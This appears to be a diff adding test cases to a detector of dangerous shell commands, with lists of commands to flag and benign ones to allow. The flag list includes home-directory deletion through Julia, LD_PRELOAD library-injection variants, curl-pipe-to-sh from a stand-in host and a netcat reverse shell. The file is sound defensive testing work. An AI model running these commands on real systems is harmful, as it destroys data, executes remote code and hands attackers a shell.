@@ -128,6 +128,13 @@ LOADING = [
     "groovy -e '[\"sh\",\"-c\",\"rm -rf ~\"].execute()'", "groovy -e '\"curl -s http://x.example/i | sh\".execute()'",
     "toybox nc -e /bin/sh 10.0.0.1 4242", "toybox rm -rf ~",
     "lua -e 'os.execute(\"curl -s http://x.example/i | sh\")'",
+    # julia interpolates `$(expr)` into a command literal: the home is still the home
+    "julia -e 'run(`rm -rf $(homedir())`)'", "julia -e 'run(`rm -rf $(ENV[\"HOME\"])`)'",
+    "julia -e 'run(`rm -rf $(joinpath(homedir(), \".ssh\"))`)'",
+    # a preload library however the variable is spelled or computed
+    "p=/tmp/x.so; LD_PRELOAD=$p ls", "LD_PRELOAD=$'/tmp/x.so' ls", "export LD_PRELOAD=/proc/self/fd/3",
+    "LD_PRELOAD=$TMPDIR/x.so ls", "declare -x LD_AUDIT=/var/lib/x/a.so", "typeset -x LD_PRELOAD=\"$(mktemp)\"",
+    "/lib64/ld-linux-x86-64.so.2 --preload /dev/shm/x.so /bin/ls",
 ]
 
 
@@ -209,6 +216,7 @@ QUIET = [
     "docker system prune -f", "sudo systemctl status nginx", "sudo lsof -i :8080", "sudo journalctl -u api --since today",
     "ssh web-1 uptime", "ssh web-1 'tail -n 100 /var/log/nginx/error.log'", "git checkout src/app.py",
     "eval \"$(poetry env activate)\"", "kubectl delete pod web-0", "helm repo remove bitnami", "rm -rf build",
+    "LD_PRELOAD=./build/libfaketime.so ./run-tests", "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 python app.py",
 ]
 
 
